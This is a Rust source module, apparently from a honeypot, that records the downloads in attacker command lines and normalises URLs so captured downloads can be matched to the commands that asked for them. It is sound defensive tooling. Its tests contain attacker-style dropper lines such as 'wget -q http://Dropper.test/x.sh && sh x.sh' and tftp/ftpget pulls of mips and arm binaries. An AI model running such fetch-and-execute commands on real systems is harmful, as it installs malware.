//! The fetches a session's commands asked for, shared by the session (which notes
//! each command line's) and its box's gateway (which asks where a download it
//! fetched is saved: `destfile`). The gateway sees the URL as the box's client sent
//! it, the session as the attacker wrote it: both are compared in one normal form.

use std::sync::{Arc, Mutex, MutexGuard};

use super::downloads::{Fetch, fetches, url_for};

/// Fetches kept per session; a command line past it is not read for more.
pub const MAX_FETCH_HINTS: usize = 10_000;

/// A session's fetch hints; clones share them (the session and its box's owner
/// entry), and they go with the last clone.
#[derive(Debug, Clone, Default)]
pub struct FetchHints(Arc<Mutex<Vec<Hint>>>);

#[derive(Debug)]
struct Hint {
    fetch: Fetch,
    /// The URL in normal form, when it parses as one.
    key: Option<String>,
    /// A download of the gateway was named after it already.
    claimed: bool,
}

impl FetchHints {
    /// Notes the fetches of a command line (at most [`MAX_FETCH_HINTS`] in all).
    pub fn note(&self, line: &str) {
        if self.lock().len() >= MAX_FETCH_HINTS {
            return;
        }
        let found = fetches(line);
        let mut hints = self.lock();
        let room = MAX_FETCH_HINTS.saturating_sub(hints.len());
        hints.extend(found.into_iter().take(room).map(|fetch| Hint {
            key: url_key(&fetch.url),
            fetch,
            claimed: false,
        }));
    }

    /// How many fetches are noted.
    pub fn len(&self) -> usize {
        self.lock().len()
    }

    /// Whether no fetch is noted.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// The URL that saved the file at `path` (see [`url_for`]).
    pub fn url_for(&self, path: &str) -> Option<String> {
        url_for(self.lock().iter().map(|hint| &hint.fetch), path).map(str::to_owned)
    }

    /// Where the command that asked for `url` saves it, as written (`x.sh`,
    /// `/tmp/a`), when one did and it saves to a file. Each download takes the
    /// earliest command for its URL not taken yet, so `wget -O a U; wget -O b U`
    /// names both; one more than the commands asked for (a retry, a script) takes
    /// the latest.
    pub fn destfile(&self, url: &str) -> Option<String> {
        let key = url_key(url)?;
        let mut hints = self.lock();
        let same = |hint: &Hint| hint.key.as_deref() == Some(key.as_str());
        let index = hints
            .iter()
            .position(|hint| !hint.claimed && same(hint))
            .or_else(|| hints.iter().rposition(same))?;
        let hint = &mut hints[index];
        hint.claimed = true;
        hint.fetch.saves_to.clone()
    }

    /// How many clones share these hints.
    #[cfg(test)]
    pub(crate) fn holders(&self) -> usize {
        Arc::strong_count(&self.0)
    }

    fn lock(&self) -> MutexGuard<'_, Vec<Hint>> {
        self.0.lock().unwrap_or_else(|p| p.into_inner())
    }
}

/// The port a scheme's URL means when it names none.
fn default_port(scheme: &str) -> Option<&'static str> {
    match scheme {
        "http" => Some("80"),
        "https" => Some("443"),
        "ftp" => Some("21"),
        "ftps" => Some("990"),
        "tftp" => Some("69"),
        _ => None,
    }
}

/// A URL in the form two spellings of the same fetch share: scheme and host in
/// lower case, no user part, no default port, no fragment, `/` for an empty path,
/// `%XX` decoded, no `.`/`..` segments or repeated slashes, no empty query. None
/// for what is not `scheme://host...`.
pub fn url_key(url: &str) -> Option<String> {
    let (scheme, rest) = url.trim().split_once("://")?;
    let scheme = scheme.to_ascii_lowercase();
    if scheme.is_empty()
        || !scheme
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '+')
    {
        return None;
    }
    let rest = rest.split('#').next().unwrap_or(rest);
    let split = rest.find(['/', '?']).unwrap_or(rest.len());
    let (authority, target) = rest.split_at(split);
    let host_port = authority.rsplit('@').next().unwrap_or(authority);
    let (host, port) = split_host_port(host_port);
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    if host.is_empty() {
        return None;
    }
    let port = port.filter(|port| !port.is_empty() && Some(*port) != default_port(&scheme));
    let (path, query) = match target.split_once('?') {
        Some((path, query)) => (path, Some(query)),
        None => (target, None),
    };
    let mut key = format!("{scheme}://{host}");
    if let Some(port) = port {
        key.push(':');
        key.push_str(port);
    }
    key.push_str(&normal_path(&percent_decode(path)));
    if let Some(query) = query.filter(|query| !query.is_empty()) {
        key.push('?');
        key.push_str(&percent_decode(query));
    }
    Some(key)
}

/// `host`, `host:port`, `[v6]`, `[v6]:port`.
fn split_host_port(authority: &str) -> (&str, Option<&str>) {
    if authority.starts_with('[') {
        return match authority.find(']') {
            Some(end) => {
                let port = authority[end + 1..].strip_prefix(':');
                (&authority[..=end], port)
            }
            None => (authority, None),
        };
    }
    match authority.rsplit_once(':') {
        Some((host, port)) => (host, Some(port)),
        None => (authority, None),
    }
}

/// `%XX` as the byte it stands for (a client may send `%20` for a space written as
/// is); anything else as is.
fn percent_decode(text: &str) -> String {
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        let hex = |b: u8| (b as char).to_digit(16);
        if bytes[i] == b'%'
            && let (Some(high), Some(low)) = (
                bytes.get(i + 1).copied().and_then(hex),
                bytes.get(i + 2).copied().and_then(hex),
            )
        {
            out.push((high * 16 + low) as u8);
            i += 3;
        } else {
            out.push(bytes[i]);
            i += 1;
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// The path a client requests for one written: `.` and `..` resolved, repeated
/// slashes one, always starting with `/`.
fn normal_path(path: &str) -> String {
    let mut segments: Vec<&str> = Vec::new();
    let trailing = path.ends_with('/') || path.ends_with("/.") || path.ends_with("/..");
    for segment in path.split('/') {
        match segment {
            "" | "." => {}
            ".." => {
                segments.pop();
            }
            segment => segments.push(segment),
        }
    }
    let mut out = String::with_capacity(path.len() + 1);
    for segment in &segments {
        out.push('/');
        out.push_str(segment);
    }
    if out.is_empty() || trailing {
        out.push('/');
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn key(url: &str) -> String {
        url_key(url).unwrap_or_else(|| panic!("{url} has no key"))
    }

    #[test]
    fn spellings_of_one_url_share_a_key() {
        for (written, sent) in [
            ("http://dropper.test/x.sh", "http://dropper.test/x.sh"),
            ("HTTP://Dropper.TEST/x.sh", "http://dropper.test/x.sh"),
            ("http://dropper.test:80/x.sh", "http://dropper.test/x.sh"),
            ("https://h:443/a", "https://h/a"),
            ("ftp://user:pw@h:21/pub/arm", "ftp://h/pub/arm"),
            ("tftp://192.0.2.5:69/mips", "tftp://192.0.2.5/mips"),
            ("tftp://192.0.2.5//srv/arm7", "tftp://192.0.2.5/srv/arm7"),
            ("http://h", "http://h/"),
            ("http://h?x=1", "http://h/?x=1"),
            ("http://h/x.sh#top", "http://h/x.sh"),
            ("http://h/x.sh?", "http://h/x.sh"),
            ("http://h/q uoted.sh", "http://h/q%20uoted.sh"),
            ("http://h/a/./b/../c", "http://h/a/c"),
            ("http://h.example./x", "http://h.example/x"),
            ("http://[2001:DB8::1]:80/x", "http://[2001:db8::1]/x"),
            ("http://h/dir/", "http://h/dir/"),
            ("  http://h/x  ", "http://h/x"),
        ] {
            assert_eq!(key(written), key(sent), "{written} vs {sent}");
        }
    }

    #[test]
    fn different_urls_keep_different_keys() {
        for (a, b) in [
            ("http://h/x.sh", "https://h/x.sh"),
            ("http://h/x.sh", "http://h:8080/x.sh"),
            ("http://h:8080/x.sh", "http://h:8081/x.sh"),
            ("http://h/x.sh", "http://g/x.sh"),
            ("http://h/x.sh", "http://h/X.sh"),
            ("http://h/x.sh?a=1", "http://h/x.sh?a=2"),
            ("http://h/dir", "http://h/dir/"),
            ("http://[2001:db8::1]/x", "http://[2001:db8::2]/x"),
            ("tftp://192.0.2.5/mips", "tftp://192.0.2.5:6969/mips"),
        ] {
            assert_ne!(key(a), key(b), "{a} vs {b}");
        }
        for junk in [
            "",
            "x.sh",
            "://h/x",
            "http://",
            "http:///x",
            "ht tp://h/x",
            "%",
        ] {
            assert_eq!(url_key(junk), None, "{junk:?}");
        }
        // Malformed escapes and a lone bracket stay as they are, without a panic.
        assert_eq!(key("http://h/%zz%4"), "http://h/%zz%4");
        assert_eq!(key("http://[::1/x"), "http://[::1/x");
    }

    #[test]
    fn a_download_is_named_after_the_command_that_asked_for_it() {
        let hints = FetchHints::default();
        hints.note("cd /tmp; wget -q http://Dropper.test/x.sh && sh x.sh");
        hints.note("curl -s http://cdn.test:8080/small.bin; busybox wget -O /tmp/b http://h/b");
        hints.note("tftp -g -r mips 192.0.2.5; ftpget 192.0.2.6 arm /pub/arm");
        assert_eq!(hints.len(), 5);
        assert_eq!(
            hints.destfile("http://dropper.test/x.sh").as_deref(),
            Some("x.sh")
        );
        assert_eq!(hints.destfile("http://cdn.test:8080/small.bin"), None);
        assert_eq!(hints.destfile("http://h:80/b").as_deref(), Some("/tmp/b"));
        assert_eq!(
            hints.destfile("tftp://192.0.2.5/mips").as_deref(),
            Some("mips")
        );
        assert_eq!(
            hints.destfile("ftp://192.0.2.6/pub/arm").as_deref(),
            Some("arm")
        );
        // Nothing asked for these.
        assert_eq!(hints.destfile("http://cdn.test/small.bin"), None);
        assert_eq!(hints.destfile("http://dropper.test/y.sh"), None);
        assert_eq!(hints.destfile("not a url"), None);
        // The capture side still labels files from the same hints.
        assert_eq!(
            hints.url_for("/tmp/x.sh").as_deref(),
            Some("http://Dropper.test/x.sh")
        );
    }

    #[test]
    fn each_command_names_one_download_and_extra_ones_take_the_latest() {
        let hints = FetchHints::default();
        hints.note("wget -O a http://h/u; wget -O b http://h/u");
        assert_eq!(hints.destfile("http://h/u").as_deref(), Some("a"));
        assert_eq!(hints.destfile("http://h/u").as_deref(), Some("b"));
        assert_eq!(hints.destfile("http://h/u").as_deref(), Some("b"));
        hints.note("wget -O c http://h/u");
        assert_eq!(hints.destfile("http://h/u").as_deref(), Some("c"));
    }

    #[test]
    fn the_hints_are_capped_and_shared_by_clones() {
        let hints = FetchHints::default();
        let gateway = hints.clone();
        let line = "wget http://h/x;".repeat(600);
        for _ in 0..20 {
            hints.note(&line);
        }
        assert_eq!(hints.len(), MAX_FETCH_HINTS);
        hints.note("wget -O late http://h/late");
        assert_eq!(gateway.len(), MAX_FETCH_HINTS);
        assert_eq!(gateway.destfile("http://h/late"), None, "past the cap");
        assert_eq!(gateway.destfile("http://h/x").as_deref(), Some("x"));
    }
}
